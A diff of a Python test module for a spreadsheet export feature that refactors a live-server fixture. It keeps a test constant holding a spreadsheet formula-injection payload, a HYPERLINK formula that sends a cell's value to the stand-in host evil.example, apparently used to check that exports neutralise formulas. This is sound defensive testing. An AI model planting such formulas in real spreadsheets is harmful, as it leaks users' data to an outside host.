@@ -31,10 +31,10 @@ from resolvers.talent_export import TALENT_SHEET_COLUMNS, TALENT_SHEET_TITLE
 from resolvers.xlsx import FORMULA_STARTS, REPLACEMENT, read_table, sheet_row, workbook_bytes
 from schema.models import Complaint, Report, ServiceItem, ServiceWindow, Talent, User
 from schema.models.enums import ComplaintKind, ComplaintSource
-from tests.support.databases import SqliteDatabases, sqlite_url
+from tests.support.databases import SqliteDatabases
 from tests.support.graphql import GraphQLClient
 from tests.support.handling import ACCEPT, HANDLERS, call
-from tests.support.live_server import LiveServer, start_server
+from tests.support.live_server import LiveServer, demo_server
 from tests.support.talent_sheets import person_id, sheet, talent_row
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&C2,"详情")'
@@ -50,13 +50,8 @@ def served(sqlite_databases: SqliteDatabases, redis_server: EmbeddedRedis,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, Path]]:  # fmt: skip
     """A real server on a copy of the demo database, and that database's file (to put rows
     into it the way no mutation would)."""
-    path = sqlite_databases.create("demo")
-    data_dir = tmp_path_factory.mktemp("sheets")
-    try:
-        with start_server(sqlite_url(path), data_dir, redis_url=redis_server.url) as server:
-            yield server, path
-    finally:
-        sqlite_databases.drop(path)
+    with demo_server(sqlite_databases, redis_server, tmp_path_factory.mktemp("sheets")) as server:
+        yield server, Path(server.env["DATABASE_URL"].removeprefix("sqlite://"))
 
 
 def _download(server: LiveServer, url: str, user: str) -> bytes:
